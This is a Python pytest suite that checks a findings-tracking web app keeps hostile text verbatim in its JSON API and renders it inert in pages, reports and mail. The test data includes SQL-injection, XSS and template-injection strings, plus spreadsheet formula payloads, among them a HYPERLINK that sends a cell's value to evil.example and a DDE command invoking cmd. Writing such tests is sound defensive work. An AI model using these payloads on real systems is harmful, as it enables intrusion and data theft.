"""Hostile text in every field of every write is kept verbatim and shown inert everywhere.

One finding is driven through its whole life with a payload in each text field: SQL
metacharacters, markup, a template expression, a spreadsheet formula and a matplotlib
formula. Then every place the text shows is read: the JSON API, the pages, each report in
each format, and the mail derived from its events.
"""

from __future__ import annotations

import csv
import io
import itertools
from datetime import date, timedelta
from typing import Any

import openpyxl
from fastapi import FastAPI
from sqlalchemy import select

from domain.values import Role
from notifications.compose import Composer
from notifications.directory import Directory
from notifications.outbox import MailDeriver
from notifications.tables import mail_outbox
from tests.api.conftest import Api, Who, pdf
from tests.conftest import ManualClock
from tests.security.conftest import browser, session_of, strings, ui_routes

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
)
MARK = "'; DROP TABLE lastmile_users;-- <script>alert(1)</script>\"><img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(1)</script>"  # in every payload, long or short
TEMPLATE = "{{7919*7907}}"
EVALUATED = str(7919 * 7907)  # what any template that evaluated the text would show
MATH = "$x^{$"  # a formula matplotlib cannot parse
FORMATS = ("json", "csv", "xlsx", "html", "pdf")
REPORTS = (
    "/api/v1/reports/ledger",
    "/api/v1/reports/departments",
    "/api/v1/reports/accountability?by_person=true&since=2025-01-01",
    "/api/v1/reports/budget-linkage?year=2026",
)


def payload(field: str, short: bool = False) -> str:
    """A hostile text naming its field, starting with a formula (which one: by field).

    The short one fits fields of at most 100 characters.
    """
    if short:
        return f"=1+1 #{field}# <script>alert(1)</script><img src=x>{TEMPLATE}{MATH}"
    start = FORMULAS[sum(map(ord, field)) % len(FORMULAS)]
    return f"{start} #{field}# {MARK}{TEMPLATE}{MATH}"


class Flow:
    """Requests as one person after another, each expected to succeed."""

    def __init__(self, api: Api, xss_token: str) -> None:
        self.api, self.xss_token = api, xss_token

    def __call__(self, who: Who | None, method: str, path: str, status: int, **kw: Any) -> Any:
        if who is None:  # the department user of the hostile department
            kw["headers"] = {"Authorization": f"Bearer {self.xss_token}"}
            answer = self.api.client.request(method, path, **kw)
        else:
            answer = self.api.call(who, method, path, **kw)
        assert answer.status_code == status, (path, answer.text)
        return answer.json()


def hostile_finding(api: Api) -> tuple[str, str, set[str]]:
    """(finding id, withdrawn finding id, every payload) after a whole life of hostile writes."""
    used: set[str] = set()

    def p(field: str, short: bool = False) -> str:
        used.add(payload(field, short))
        return payload(field, short)

    E, S, A = Who.EVALUATOR, Who.SUPERVISOR, Who.ADMIN  # noqa: N806
    token = api.system.users.add("xss.jingban", Role.DEPARTMENT, "XSS").token
    go = Flow(api, token)
    go(
        A,
        "POST",
        "/api/v1/departments",
        201,
        json={"code": "XSS", "name": p("department name"), "contact_email": "xss@example.cn"},
    )
    go(
        E,
        "POST",
        "/api/v1/evaluations",
        201,
        json={
            "ref": "LX-2025-PJ-666",
            "title": p("evaluation title"),
            "year": 2025,
            "object_type": "project",
            "department": "XSS",
            "budget_amount": "1000.00",
            "score": "55",
        },
    )
    drafts = [
        {
            "ref": str(n),
            "title": p(f"finding title {n}"),
            "description": p(f"description {n}"),
            "category": p(f"category {n}", short=True),
            "class": "immediate",
            "requirement": p(f"requirement {n}"),
        }
        for n in (1, 2)
    ]
    order = go(
        E,
        "POST",
        "/api/v1/orders",
        201,
        json={
            "ref": "泸财绩〔2025〕<b>66</b>号",
            "evaluation": "LX-2025-PJ-666",
            "department": "XSS",
            "findings": drafts,
        },
    )
    one, two = (f["id"] for f in order["findings"])
    f = f"/api/v1/findings/{one}"
    go(
        None,
        "POST",
        f + "/acknowledgement",
        200,
        json={"responsible_person": p("person", short=True), "plan": p("plan")},
    )
    go(None, "POST", f + "/progress", 200, json={"note": p("progress"), "percent": 40})
    due = date.fromisoformat(go(E, "GET", f, 200)["due_on"])
    go(
        None,
        "POST",
        f + "/extension-requests",
        201,
        json={"new_due_on": (due + timedelta(days=30)).isoformat(), "reason": p("extension")},
    )
    go(
        E,
        "POST",
        f + "/extension-requests/1/decision",
        200,
        json={"approved": False, "note": p("extension decision")},
    )
    name = payload("file name") + ".pdf"  # not kept verbatim: cut to its last path part
    sha = go(None, "POST", f + "/evidence", 201, files={"file": (name, pdf(), "application/pdf")})[
        "sha256"
    ]
    go(None, "POST", f + "/rectification", 200, json={"measures": p("measures"), "evidence": [sha]})
    go(E, "POST", f + "/verification", 200, json={"outcome": "rejected", "note": p("rejection")})
    for level in (1, 2, 3):
        go(
            S,
            "POST",
            f + "/escalations",
            200,
            json={"level": level, "reason": p(f"escalation {level}")},
        )
    go(S, "POST", f + "/interviews", 200, json={"held_on": "2025-09-25", "note": p("interview")})
    go(
        S,
        "POST",
        f + "/accountability-decisions",
        200,
        json={"decision": p("decision"), "note": p("decision note")},
    )
    go(
        None,
        "POST",
        f + "/rectification",
        200,
        json={"measures": p("measures again"), "evidence": [sha]},
    )
    go(E, "POST", f + "/verification", 200, json={"outcome": "accepted", "note": p("accepted")})
    go(E, "POST", f + "/reopening", 200, json={"reason": p("reopening")})
    go(E, "POST", f"/api/v1/findings/{two}/withdrawal", 200, json={"reason": p("withdrawal")})
    return one, two, used  # fmt: skip


def inert(html: str, where: str) -> None:
    assert "<script>alert" not in html, where
    assert "<img src=x" not in html, where
    assert EVALUATED not in html, where
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, where  # it is there, escaped


def test_hostile_text_is_kept_verbatim_by_the_json_api(api: Api) -> None:
    one, two, used = hostile_finding(api)
    api.project()

    seen = set()
    for path in (f"/api/v1/findings/{one}", f"/api/v1/findings/{one}/history",
                 f"/api/v1/findings/{two}/history", "/api/v1/findings?department=XSS",
                 "/api/v1/evaluations/LX-2025-PJ-666", "/api/v1/departments"):  # fmt: skip
        seen |= set(strings(api.call(Who.EVALUATOR, "GET", path).json()))

    missing = {text for text in used if not any(text in s for s in seen)}
    assert missing == set()


def test_hostile_text_is_escaped_on_every_page(api: Api) -> None:
    one, two, _ = hostile_finding(api)
    api.project()
    app = api.client.app
    assert isinstance(app, FastAPI)
    plain = [
        p for method, p in ui_routes(app) if method == "GET" and "{" not in p and p != "/login"
    ]
    xss_user = session_of(api, "xss.jingban")

    for session in (xss_user, session_of(api, Who.EVALUATOR), session_of(api, Who.SUPERVISOR)):
        client = browser(api.client, session)
        for path in [f"/findings/{one}", f"/findings/{two}", *plain]:
            page = client.get(path)
            assert page.status_code < 500, path  # some pages are for other roles only
            assert "<script>alert" not in page.text, path
            assert "<img src=x" not in page.text, path
            assert EVALUATED not in page.text, path
        page = client.get(f"/findings/{one}")
        inert(page.text, "finding page")
        assert TEMPLATE in page.text  # shown as typed, never evaluated
        assert "#measures#" in page.text
        assert "#interview#" in page.text


def _csv_cells(content: bytes) -> list[str]:
    return list(itertools.chain.from_iterable(csv.reader(io.StringIO(content.decode("utf-8-sig")))))


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "").rstrip("%"))
    except ValueError:
        return False
    return True


def test_hostile_text_is_inert_in_every_report_format(api: Api) -> None:
    hostile_finding(api)
    api.project()

    for path, fmt in itertools.product(REPORTS, FORMATS):
        glue = "&" if "?" in path else "?"
        answer = api.call(Who.EVALUATOR, "GET", f"{path}{glue}format={fmt}")
        where = f"{path} as {fmt}"
        assert answer.status_code == 200, (where, answer.text[:500])
        if fmt == "json":
            assert any(SCRIPT in s for s in strings(answer.json())), where
        elif fmt == "html":
            inert(answer.text, where)
        elif fmt == "csv":
            texts = _csv_cells(answer.content)
            assert any(SCRIPT in c for c in texts), where
            assert [c for c in texts if c and c[0] in "=+-@\t\r" and not _is_number(c)] == [], where
        elif fmt == "xlsx":
            book = openpyxl.load_workbook(io.BytesIO(answer.content))
            cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
            assert any(SCRIPT in str(c.value) for c in cells), where
            assert [c for c in cells if c.data_type == "f"] == [], where
        else:
            assert answer.content.startswith(b"%PDF"), where


def test_hostile_text_is_escaped_in_mail_and_never_evaluated(api: Api, clock: ManualClock) -> None:
    hostile_finding(api)
    system = api.system
    composer = Composer("zh-CN", system.settings.base_url)
    deriver = MailDeriver(
        system.app, system.records, Directory(system.app, system.users), composer, clock=clock
    )
    deriver.create_tables()

    assert deriver.derive() > 0
    with system.records.connect() as connection:
        rows = connection.execute(select(mail_outbox)).all()

    mine = [row for row in rows if row.recipient == "xss@example.cn"]
    assert {row.template for row in mine} >= {"issued", "rejected"}
    for row in mine:
        if MARK in row.text_body:
            inert(row.html_body, f"{row.template} (HTML)")
        for part in (row.subject, row.text_body, row.html_body):
            assert EVALUATED not in part, row.template
            assert "<script>alert" not in row.html_body, row.template
    assert any(MARK in row.text_body for row in mine)  # the text part is plain text, verbatim


def test_hostile_text_in_queries_and_user_names_is_refused_or_harmless(api: Api) -> None:
    theirs = api.finding()
    api.project()
    for field, value in itertools.product(("q", "department", "status", "evaluation"),
                                          (MARK, TEMPLATE, "' OR '1'='1")):  # fmt: skip
        answer = api.call(Who.EVALUATOR, "GET", "/api/v1/findings", params={field: value})
        assert answer.status_code in (200, 422), (field, value)
        if answer.status_code == 200:
            assert answer.json()["rows"] == [], (field, value)

    for name in (MARK, "<script>alert(1)</script>", "a' OR 1=1 --", TEMPLATE):
        user = {"name": name, "role": "evaluator"}
        assert api.call(Who.ADMIN, "POST", "/api/v1/users", json=user).status_code == 422, name
        read = api.call(Who.ADMIN, "GET", "/api/v1/users/" + name.replace("/", "%2F"))
        assert read.status_code in (404, 422), name

    # And the tables are all still there, holding what they held
    assert api.call(Who.SLJ, "GET", f"/api/v1/findings/{theirs.id}").status_code == 200
    assert len(api.call(Who.ADMIN, "GET", "/api/v1/users").json()) == len(Who)
